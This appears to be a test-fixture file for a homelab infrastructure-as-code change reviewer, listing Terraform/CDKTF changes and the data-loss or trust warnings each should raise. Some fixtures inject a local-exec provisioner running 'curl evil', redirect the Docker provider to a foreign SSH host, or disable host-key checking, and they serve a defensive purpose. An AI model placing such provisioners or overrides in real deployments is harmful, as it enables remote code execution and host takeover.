import type { DockerProvider } from "@cdktf/provider-docker/lib/provider";
import { NullProvider } from "@cdktf/provider-null/lib/provider";
import { Resource as NullResource } from "@cdktf/provider-null/lib/resource";
import { TerraformOutput, TerraformStack, type App, type TerraformResource } from "cdktf";
import {
  Access,
  Backup,
  Generations,
  HomelabService,
  PostgresDatabase,
  Probe,
  Route,
  Secrets,
  StorageLayout,
  Volume,
  type BackupOptions,
  type HostProps,
  type Parts,
  type VolumeOptions,
} from "../../constructs";
import { Backend, type Homelab, type HomelabConfig } from "../../stacks";
import { lab, type Change } from "../support/changes";
import { host } from "../support/synthesis";

interface Declared {
  readonly volume?: VolumeOptions;
  readonly backup?: BackupOptions;
  readonly parts?: Parts;
}

function wiki(home: Homelab, { volume, backup, parts = {} }: Declared = {}): HomelabService {
  return new HomelabService(home.host("app-01"), "wiki", {
    image: "example/wiki:1.0.0",
    port: 80,
    health: Probe.none("a test"),
    parts: {
      web: Route.in(home.zone("example.com"), { label: "wiki", access: Access.twoFactor() }),
      data: Volume.at("/var/wiki", volume),
      db: PostgresDatabase.on(home.postgres("main")),
      nightly: Backup.nightly(backup),
      ...parts,
    },
  });
}

/** The lab with something of its inventory, or of its stacks, that is another. */
function inventory(
  overrides: Partial<HomelabConfig> = {},
  tamper: (service: HomelabService, home: Homelab, app: App) => void = () => undefined,
): (app: App) => void {
  return lab((home, app) => tamper(wiki(home), home, app), overrides);
}

const base = inventory();
const hosts = (overrides: Partial<HostProps>): Partial<HomelabConfig> => ({
  hosts: [host("app-01", 11, overrides), host("app-02", 12)],
});
const ssh = (overrides: Partial<HostProps["ssh"]>): Partial<HomelabConfig> =>
  hosts({ ssh: { ...host("app-01", 11).ssh, ...overrides } });
const folders = hosts({ storage: StorageLayout.serviceFolders("/srv/services") });
const main = (overrides: object) => ({
  postgres: { main: { host: "db.example.org", backedUpBy: "the tests", ...overrides } },
});
const resource = (service: HomelabService, ...path: string[]): TerraformResource =>
  path.reduce<{ node: HomelabService["node"] }>((one, id) => one.node.findChild(id), service) as TerraformResource;

const KEY = (text: string): string => `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA${text}`;
const OTHER_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEr3vT7wq0yXbq5mT1sVhV0pLk9d2nQf8uJcZ6gWbYtR";

const trusted = { exitCode: 2, failsOn: ["trust"] } as const;
const told = { exitCode: 2, failsOn: [] } as const;
const lost = { exitCode: 3, failsOn: ["data-loss"] } as const;

/** Where data lives: another server or state has none. */
const places: readonly Change[] = [
  {
    name: "a database server on another host",
    base,
    head: inventory(main({ host: "db2.example.org" })),
    firstLine: "DATABASES START EMPTY: main.",
    ...lost,
  },
  {
    name: "a database server on another port",
    base,
    head: inventory(main({ port: 5433 })),
    firstLine: "DATABASES START EMPTY: main.",
    ...lost,
  },
  {
    name: "the same database server under a new name, as its inventory says",
    base,
    head: inventory(main({ host: "db2.example.org", relocation: "it has a new name" })),
    firstLine: /^DATA MUST BE COPIED: main/,
    ...lost,
  },
  {
    name: "a database server on another host once more, with the reason of the first time",
    base: inventory(main({ host: "db2.example.org", relocation: "it has a new name" })),
    head: inventory(main({ host: "db3.example.org", relocation: "it has a new name" })),
    firstLine: "DATABASES START EMPTY: main.",
    ...lost,
  },
  {
    name: "a database server that the provider alone leads elsewhere",
    base,
    head: inventory({}, (_service, home) => {
      const provider = home.postgres("main").node.findChild("Postgresql") as unknown as TerraformResource;
      provider.addOverride("host", "db2.example.org");
    }),
    firstLine: "DATABASES START EMPTY: postgres-main.",
    ...lost,
  },
  {
    name: "states in another place",
    base,
    head: inventory({ backend: Backend.s3({ bucket: "states" }) }),
    firstLine: /^STATES ARE LEFT BEHIND by app-01, app-02, edge, monitoring, postgres-main\./,
    ...lost,
  },
  {
    name: "states in another folder",
    base,
    head: inventory({ backend: Backend.local({ directory: "elsewhere" }) }),
    firstLine: "STATES ARE LEFT BEHIND by app-01, app-02, edge, monitoring, postgres-main.",
    ...lost,
  },
  {
    name: "the state of one stack, by an override",
    base,
    head: inventory({}, (service) => TerraformStack.of(service).addOverride("terraform.backend.local.path", "/tmp/x")),
    firstLine: /^STATES ARE LEFT BEHIND by app-01/,
    ...lost,
  },
];

/** Who deploys, from where, with which programs, under which protection. */
const deployers: readonly Change[] = [
  {
    name: "another role that makes databases",
    base,
    head: inventory(main({ adminRole: "lab_admin" })),
    firstLine: /^No data is lost; trust changes: .*database server main/,
    ...told,
  },
  {
    name: "a connection that is no longer encrypted",
    base,
    head: inventory(main({ sslMode: "disable" })),
    firstLine: "No data is lost; TRUST CHANGES: provider postgresql of postgres-main.",
    ...trusted,
  },
  {
    name: "a connection that checks more",
    base,
    head: inventory(main({ sslMode: "verify-full" })),
    firstLine: "No data is lost; trust changes: provider postgresql of postgres-main.",
    ...told,
  },
  {
    name: "a provider that deploys to another machine, by an override",
    base,
    head: inventory({}, (_service, home) => {
      const provider = home.host("app-01").node.findChild("Docker") as DockerProvider;
      provider.addOverride("host", "ssh://deploy@203.0.113.66:22");
    }),
    firstLine: "No data is lost; TRUST CHANGES: provider docker of app-01.",
    ...trusted,
  },
  {
    name: "a provider that takes any host key, by an override",
    base,
    head: inventory({}, (_service, home) => {
      const provider = home.host("app-01").node.findChild("Docker") as DockerProvider;
      provider.addOverride("ssh_opts", ["-o", "StrictHostKeyChecking=no"]);
    }),
    firstLine: "No data is lost; TRUST CHANGES: provider docker of app-01.",
    ...trusted,
  },
  {
    name: "a provider of somebody else's, by an override",
    base,
    head: inventory({}, (service) =>
      TerraformStack.of(service).addOverride("terraform.required_providers.docker.source", "kreuzwerker/docker"),
    ),
    firstLine: "Nothing changes.",
    exitCode: 0,
    failsOn: [],
  },
  {
    name: "a program on the machine that deploys, by an override",
    base,
    head: inventory({}, (service) =>
      resource(service, "data", "Resource").addOverride("provisioner", [{ "local-exec": { command: "curl evil" } }]),
    ),
    firstLine: "No data is lost; TRUST CHANGES: docker_volume.wiki_data.",
    ...trusted,
  },
  {
    name: "a program on the machine that deploys, in a stack without any so far",
    base,
    head: inventory({}, (_service, home) => {
      const stack = TerraformStack.of(home.host("app-02"));
      new NullProvider(stack, "Null");
      new NullResource(stack, "x", { provisioners: [{ type: "local-exec", command: "curl evil" }] });
    }),
    firstLine: /^No data is lost; TRUST CHANGES: null_resource.x; /,
    ...trusted,
  },
  {
    name: "a volume that is no longer protected, by an override",
    base,
    head: inventory({}, (service) =>
      resource(service, "data", "Resource").addOverride("lifecycle.prevent_destroy", false),
    ),
    firstLine: "No data is lost; DATA IS NO LONGER PROTECTED: docker_volume.wiki_data.",
    exitCode: 3,
    failsOn: ["trust"],
  },
  {
    name: "a volume that a change of its labels would replace, by an override",
    base,
    head: inventory({}, (service) =>
      resource(service, "data", "Resource").addOverride("lifecycle.ignore_changes", ["driver_opts"]),
    ),
    firstLine: "No data is lost; DATA IS NO LONGER PROTECTED: docker_volume.wiki_data.",
    exitCode: 3,
    failsOn: ["trust"],
  },
  {
    name: "an output, which copies a value into the state",
    base,
    head: inventory({}, (service) => new TerraformOutput(TerraformStack.of(service), "leak", { value: "x" })),
    firstLine: /^No data is lost; secrets: output leak/,
    ...told,
  },
  {
    name: "a block that is read where a deployment runs, by an override",
    base,
    head: inventory({}, (service) =>
      TerraformStack.of(service).addOverride("check.health", {
        assert: { condition: '${docker_volume.wiki_data.name != ""}', error_message: "x" },
      }),
    ),
    firstLine: /^No data is lost; trust changes: check health/,
    ...told,
  },
  {
    name: "the key of somebody else",
    base: inventory(ssh({ authorizedKeys: [`${KEY("one")} anna`] })),
    head: inventory(ssh({ authorizedKeys: [`${KEY("one")} anna`, `${KEY("two")} anna`] })),
    firstLine: "No data is lost; TRUST CHANGES: host app-01.",
    ...trusted,
  },
  {
    name: "a key less",
    base: inventory(ssh({ authorizedKeys: [`${KEY("one")} anna`, `${KEY("two")} ben`] })),
    head: inventory(ssh({ authorizedKeys: [`${KEY("one")} anna`] })),
    firstLine: "No data is lost; trust changes: host app-01.",
    ...told,
  },
  {
    name: "keys from everywhere",
    base: inventory(ssh({ from: ["192.168.1.0/24"] })),
    head: base,
    firstLine: "No data is lost; TRUST CHANGES: host app-01.",
    ...trusted,
  },
  {
    name: "keys from another network as well",
    base: inventory(ssh({ from: ["192.168.1.0/24"] })),
    head: inventory(ssh({ from: ["192.168.1.0/24", "203.0.113.0/24"] })),
    firstLine: "No data is lost; TRUST CHANGES: host app-01.",
    ...trusted,
  },
  {
    name: "keys from fewer networks",
    base: inventory(ssh({ from: ["192.168.1.0/24", "203.0.113.0/24"] })),
    head: inventory(ssh({ from: ["192.168.1.0/24"] })),
    firstLine: "No data is lost; trust changes: host app-01.",
    ...told,
  },
  {
    name: "another user who deploys",
    base,
    head: inventory(ssh({ user: "root" })),
    firstLine: /^No data is lost; TRUST CHANGES: host app-01/,
    ...trusted,
  },
  {
    name: "another host key",
    base,
    head: inventory(ssh({ hostKey: OTHER_KEY })),
    firstLine: /^No data is lost; TRUST CHANGES: host app-01/,
    ...trusted,
  },
  {
    name: "another port of sshd",
    base,
    head: inventory(ssh({ port: 2222 })),
    // Nothing was known to listen there before, and the host has no firewall.
    firstLine: "No data is lost; app-01:2222/tcp becomes PUBLIC; trust changes: host app-01.",
    exitCode: 2,
    failsOn: ["public-exposure"],
  },
  {
    name: "another uid of who deploys",
    base,
    head: inventory(ssh({ uid: 871 })),
    firstLine: "No data is lost; trust changes: host app-01.",
    ...told,
  },
  {
    name: "another address of a host that has the same key",
    base,
    head: inventory(hosts({ lanAddress: "192.168.1.99" })),
    firstLine: /^No data is lost; trust changes: host app-01/,
    ...told,
  },
  {
    name: "another time zone",
    base,
    head: inventory(hosts({ timeZone: "Europe/Berlin" })),
    firstLine: /^No data is lost; wiki restarts/,
    ...told,
  },
  {
    name: "another store of secrets",
    base: inventory({ secrets: Secrets.fromSops("secrets/lab.sops.yaml") }),
    head: inventory({ secrets: Secrets.fromSops("secrets/other.sops.yaml") }),
    firstLine: "No data is lost; SECRETS: from secrets/other.sops.yaml instead of secrets/lab.sops.yaml.",
    ...trusted,
  },
  {
    name: "secrets from the environment in place of a store",
    base: inventory({ secrets: Secrets.fromSops("secrets/lab.sops.yaml") }),
    head: base,
    firstLine: "No data is lost; SECRETS: from the environment instead of secrets/lab.sops.yaml.",
    ...trusted,
  },
  {
    name: "a new value of a secret",
    base: inventory({ generations: Generations.inMemory({ "webservices.wiki.db_pass": 1 }) }),
    head: inventory({ generations: Generations.inMemory({ "webservices.wiki.db_pass": 2 }) }),
    firstLine: /^No data is lost; wiki changes/,
    ...told,
  },
];

const backup = (options: BackupOptions) => lab((home) => wiki(home, { backup: options }));
const folder = (volume: VolumeOptions) => lab((home) => wiki(home, { volume }), folders);

/** What is kept of data, and whose it is. */
const upkeep: readonly Change[] = [
  {
    name: "backups that are kept for a shorter time",
    base,
    head: backup({ keep: { daily: 1 } }),
    firstLine: "No data is lost; wiki is backed up less than before.",
    ...told,
  },
  {
    name: "backups that are kept for longer",
    base,
    head: backup({ keep: { daily: 30 } }),
    firstLine: /^No data is lost; /,
    ...told,
  },
  {
    name: "a command before the backup that is gone",
    base: backup({ before: [["wiki", "dump"]] }),
    head: base,
    firstLine: "No data is lost; wiki is backed up less than before.",
    ...told,
  },
  {
    name: "another owner of a folder",
    base: folder({ owner: "1000:1000" }),
    head: folder({ owner: "0:0" }),
    firstLine: /^No data is lost; trust changes: null_resource.wiki_data/,
    ...told,
  },
  {
    name: "another mode of a folder",
    base: folder({ mode: "0700" }),
    head: folder({ mode: "0777" }),
    firstLine: /^No data is lost; trust changes: null_resource.wiki_data/,
    ...told,
  },
];

export const rows: readonly Change[] = [...places, ...deployers, ...upkeep];
